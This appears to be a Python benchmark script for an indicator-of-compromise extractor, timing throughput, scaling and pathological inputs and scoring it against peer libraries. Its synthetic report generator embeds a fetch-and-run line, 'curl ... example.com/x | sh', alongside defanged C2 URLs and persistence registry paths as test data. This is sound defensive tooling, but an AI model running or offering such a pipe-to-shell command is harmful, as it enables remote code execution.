"""Indicator-engine benchmark: throughput, scaling, pathological inputs, and peers side by side.

Run from the repository root:  PYTHONPATH=$PWD python benchmarks/bench_iocs.py [--quick]

Peers (the optional ``bench`` extra: iocextract, ioc-finder, iocsearcher) are timed on the same
text in the same run when importable, and scored on fixtures/iocs/cases.tsv next to ours.
"""

from __future__ import annotations

import argparse
import contextlib
import gc
import io
import ipaddress
import logging
import random
import sys
import time
from collections.abc import Callable
from pathlib import Path

from incidentparse.ioc import defang, extract_indicators

ROOT = Path(__file__).resolve().parent.parent
CASES = ROOT / "fixtures" / "iocs" / "cases.tsv"
HOLDOUT = ROOT / "fixtures" / "iocs" / "holdout.tsv"
Extractor = Callable[[str], set[tuple[str, str]]]

# ---------------------------------------------------------------- a deterministic report corpus

PROSE = (
    "the attacker service outage team database cluster deployment rollback customer impact "
    "latency alert engineer on-call mitigation root cause config change release version 2.4.1 "
    "network traffic logs were reviewed and the host was isolated after detection of beacons "
    "users reported errors during the window while monitoring showed elevated 5xx rates"
)
WORDS = tuple(PROSE.split())
TLDS = ("com", "net", "org", "ru", "io", "info", "top", "xyz", "co.uk")


def _name(rng: random.Random) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(4, 10)))


def _indicator_line(rng: random.Random) -> str:
    host = f"{_name(rng)}.{rng.choice(TLDS)}"
    ip = ".".join(str(rng.randint(1, 254)) for _ in range(4))
    digest = "".join(rng.choice("0123456789abcdef") for _ in range(rng.choice((32, 40, 64))))
    choices = (
        f"- **C2 server:** {defang('https://' + host + '/gate.php', 'url')} (beacon endpoint)",
        f"- Contacted {defang(ip, 'ipv4')} over 443",
        f"| {digest} | {_name(rng)}.exe | dropped payload |",
        f"- `C:\\Users\\Public\\{_name(rng)}.dll` written by the loader",
        f"- Technique T1059.001 and CVE-2024-{rng.randint(1000, 99999)} were used",
        f"- Persistence in `HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{_name(rng)}`",
        f"- Phishing sender {_name(rng)}[@]{host}",
    )
    return rng.choice(choices)


def make_report(size: int, seed: int = 7, density: float = 0.08) -> str:
    """About ``size`` characters of report-like Markdown: prose, headings, code blocks, and
    ``density`` of the lines carrying indicators (list items, table rows)."""
    rng = random.Random(seed)
    parts: list[str] = []
    total = 0
    while total < size:
        kind = rng.random()
        if kind < 1 - density - 0.12:
            line = " ".join(rng.choice(WORDS) for _ in range(rng.randint(8, 30))) + "."
        elif kind < 1 - 0.12:
            line = _indicator_line(rng)
        elif kind < 1 - 0.04:
            line = f"## {rng.choice(WORDS).title()} {rng.choice(WORDS)}"
        else:
            line = f"```\n$ curl -s http://{_name(rng)}.example.com/x | sh\n```"
        parts.append(line)
        total += len(line) + 1
    return "\n".join(parts)[:size]


# ---------------------------------------------------------------- timing


def best_time(func: Callable[[str], object], text: str, repeat: int = 3) -> float:
    """Best CPU time (process_time) of ``repeat`` runs, garbage collector paused during each.

    CPU time rather than wall time: the figures must not depend on what else the machine runs.
    """
    best = float("inf")
    for _ in range(repeat):
        gc.collect()
        gc.disable()
        try:
            began = time.process_time()
            func(text)
            best = min(best, time.process_time() - began)
        finally:
            gc.enable()
    return best


def ours(text: str) -> set[tuple[str, str]]:
    return {(i.type, i.value) for i in extract_indicators(text)}


def throughput(size: int) -> None:
    for density, name in ((0.08, "report-like"), (0.25, "IOC-dense appendix-like")):
        text = make_report(size, density=density)
        seconds = best_time(ours, text)
        rate = len(text) / 1e6 / seconds
        print(f"throughput: {len(text) / 1e6:.2f} MB {name} text in {seconds:.3f} s "
              f"= {rate:.1f} MB/s, {len(ours(text))} distinct indicators")  # fmt: skip


def scaling(top: int) -> None:
    print("\nscaling (size, seconds, MB/s, time ratio to previous size):")
    size, previous = 16 * 1024, None
    while size <= top:
        seconds = best_time(ours, make_report(size), repeat=3 if size > 2**21 else 5)
        ratio = "" if previous is None else f"{seconds / previous:.2f}x"
        print(
            f"  {size / 1024:>7.0f} KB  {seconds:8.4f} s  {size / 1e6 / seconds:6.1f} MB/s  {ratio}"
        )
        previous, size = seconds, size * 2


PATHOLOGICAL: dict[str, str] = {
    "a. repeated": "a.",
    "[.] repeated": "[.]",
    "digits and dots": "1.2.",
    "http:// repeated": "http://",
    "hex run": "0123456789abcdef",
    "backticks": "`a",
    "[at] repeated": "a[at]",
    "colons": "a:",
}


def pathological(size: int) -> None:
    print(f"\npathological inputs ({size // 1024} KB and {size // 2048} KB; linear => ratio ~2):")
    for name, unit in PATHOLOGICAL.items():
        full = unit * (size // len(unit))
        half = full[: len(full) // 2]
        t_full, t_half = best_time(ours, full, 2), best_time(ours, half, 2)
        print(f"  {name:18} {t_full:8.4f} s  ({len(full) / 1e6 / t_full:6.1f} MB/s)  "
              f"ratio full/half {t_full / max(t_half, 1e-9):.2f}")  # fmt: skip


# ---------------------------------------------------------------- peers


def _canon(kind: str, value: str) -> tuple[str, str]:
    """Our canonical form for a peer's output, so that formatting alone does not count."""
    value = value.strip()
    if kind in ("domain", "email", "md5", "sha1", "sha256", "sha512"):
        value = value.lower().rstrip(".")
    elif kind == "cve":
        value = value.upper()
    elif kind == "asn":
        value = "AS" + "".join(c for c in value if c.isdigit())
    elif kind in ("ipv4", "ipv6"):
        with contextlib.suppress(ValueError):
            value = str(ipaddress.ip_address(value))
    elif kind == "url" and "://" in value:
        scheme, rest = value.split("://", 1)
        host, sep, tail = rest.partition("/")
        value = f"{scheme.lower()}://{host.lower()}{sep}{tail}"
    return kind, value


IOC_FINDER_TYPES = {
    "urls": "url", "domains": "domain", "ipv4s": "ipv4", "ipv6s": "ipv6", "ipv4_cidrs": "cidr",
    "email_addresses": "email", "md5s": "md5", "sha1s": "sha1", "sha256s": "sha256",
    "sha512s": "sha512", "cves": "cve", "asns": "asn", "file_paths": "file_path",
    "registry_key_paths": "registry_key", "attack_techniques": "attack_technique",
    "attack_tactics": "attack_tactic",
}  # fmt: skip
IOCSEARCHER_TYPES = {
    "url": "url", "fqdn": "domain", "ip4": "ipv4", "ip6": "ipv6", "ip4Net": "cidr",
    "email": "email", "md5": "md5", "sha1": "sha1", "sha256": "sha256", "cve": "cve",
    "ttp": "attack_technique", "registry": "registry_key",
}  # fmt: skip


def load_peers() -> dict[str, tuple[Extractor, frozenset[str]]]:
    """Each importable peer as (extract function, the types it supports)."""
    peers: dict[str, tuple[Extractor, frozenset[str]]] = {}
    with contextlib.suppress(ImportError):
        import iocextract  # type: ignore[import-untyped]

        def run_iocextract(text: str) -> set[tuple[str, str]]:
            x = iocextract
            found = [("url", v) for v in x.extract_urls(text, refang=True)]
            found += [("ipv4", v) for v in x.extract_ipv4s(text, refang=True)]
            found += [("ipv6", v) for v in x.extract_ipv6s(text)]
            found += [("email", v) for v in x.extract_emails(text, refang=True)]
            for kind in ("md5", "sha1", "sha256", "sha512"):
                found += [(kind, v) for v in getattr(x, f"extract_{kind}_hashes")(text)]
            return {_canon(k, v) for k, v in found}

        kinds = frozenset({"url", "ipv4", "ipv6", "email", "md5", "sha1", "sha256", "sha512"})
        peers["iocextract"] = (run_iocextract, kinds)
    with contextlib.suppress(ImportError):
        import ioc_finder  # type: ignore[import-untyped]

        def run_ioc_finder(text: str) -> set[tuple[str, str]]:
            result = ioc_finder.find_iocs(text, included_ioc_types=list(IOC_FINDER_TYPES))
            found: set[tuple[str, str]] = set()
            for key, kind in IOC_FINDER_TYPES.items():
                values = result.get(key, [])
                if isinstance(values, dict):
                    values = [v for group in values.values() for v in group]
                found |= {_canon(kind, v) for v in values}
            return found

        peers["ioc-finder"] = (run_ioc_finder, frozenset(IOC_FINDER_TYPES.values()))
    with contextlib.suppress(ImportError):
        logging.disable(logging.CRITICAL)
        from iocsearcher.searcher import Searcher  # type: ignore[import-untyped]

        searcher = Searcher()

        def run_iocsearcher(text: str) -> set[tuple[str, str]]:
            found = searcher.search_data(text)
            return {
                _canon(IOCSEARCHER_TYPES[i.name], i.value)
                for i in found
                if i.name in IOCSEARCHER_TYPES
            }

        peers["iocsearcher"] = (run_iocsearcher, frozenset(IOCSEARCHER_TYPES.values()))
    return peers


def load_cases(path: Path = CASES) -> list[tuple[str, set[tuple[str, str]]]]:
    rows = []
    for line in path.read_text(encoding="utf-8").splitlines():
        if not line or line.startswith("#"):
            continue
        text, *expected = line.split("\t")
        pairs = {tuple(e.split("=", 1)) for e in expected if e and e != "none"}
        rows.append((text.replace("⏎", "\n"), {(k, v) for k, v in pairs}))
    return rows


def score(
    func: Extractor,
    kinds: frozenset[str] | None,
    path: Path = CASES,
    misses: list[str] | None = None,
) -> tuple[float, float, float]:
    """Micro precision, recall, F1 over a case table; kinds limits both sides to those types."""
    tp = fp = fn = 0
    for text, expected in load_cases(path):
        with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
            try:
                found = func(text)
            except Exception:  # a peer crashing on a case scores it as nothing found
                found = set()
        if kinds is not None:
            expected = {e for e in expected if e[0] in kinds}
            found = {f for f in found if f[0] in kinds}
        if misses is not None and found != expected:
            misses.append(f"{text[:70]!r}: extra {sorted(found - expected)}, missed "
                          f"{sorted(expected - found)}")  # fmt: skip
        tp += len(found & expected)
        fp += len(found - expected)
        fn += len(expected - found)
    precision = tp / (tp + fp) if tp + fp else 0.0
    recall = tp / (tp + fn) if tp + fn else 0.0
    f1 = 2 * precision * recall / (precision + recall) if precision + recall else 0.0
    return precision, recall, f1


def compare(size: int) -> None:
    peers = load_peers()
    text = make_report(size)
    print(f"\nside by side on the same {len(text) / 1e6:.2f} MB text (best of 5, peers of 2):")
    print(f"  {'tool':12} {'seconds':>9} {'MB/s':>8}")
    ours_s = best_time(ours, text, 5)
    print(f"  {'incidentparse':12} {ours_s:9.3f} {len(text) / 1e6 / ours_s:8.2f}")
    for name, (func, _) in peers.items():
        seconds = best_time(func, text, 2)
        print(f"  {name:12} {seconds:9.3f} {len(text) / 1e6 / seconds:8.2f}  "
              f"(incidentparse {seconds / ours_s:.1f}x faster)")  # fmt: skip
    for path in (CASES, HOLDOUT):
        accuracy(path, peers)


def accuracy(path: Path, peers: dict[str, tuple[Extractor, frozenset[str]]]) -> None:
    print(f"\naccuracy on {path.relative_to(ROOT)} ({len(load_cases(path))} cases):")
    print(f"  {'tool':14} {'P':>6} {'R':>6} {'F1':>6}   on the peer's own types: P R F1")
    misses: list[str] = []
    p, r, f = score(ours, None, path, misses)
    print(f"  {'incidentparse':14} {p:6.3f} {r:6.3f} {f:6.3f}")
    for name, (func, kinds) in peers.items():
        p, r, f = score(func, None, path)
        p2, r2, f2 = score(func, kinds, path)
        q2 = score(ours, kinds, path)
        print(f"  {name:14} {p:6.3f} {r:6.3f} {f:6.3f}   {p2:.3f} {r2:.3f} {f2:.3f} "
              f"(incidentparse on those types: F1 {q2[2]:.3f})")  # fmt: skip
    for miss in misses:
        print(f"    incidentparse differs: {miss}")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--quick", action="store_true", help="smaller sizes, for a smoke run")
    args = parser.parse_args(argv)
    print(f"python {sys.version.split()[0]}, {time.strftime('%Y-%m-%d %H:%M UTC', time.gmtime())}")
    throughput(2**18 if args.quick else 2 * 2**20)
    scaling(2**20 if args.quick else 8 * 2**20)
    pathological(2**18 if args.quick else 2**20)
    compare(2**17 if args.quick else 2**19)
    return 0


if __name__ == "__main__":
    sys.exit(main())
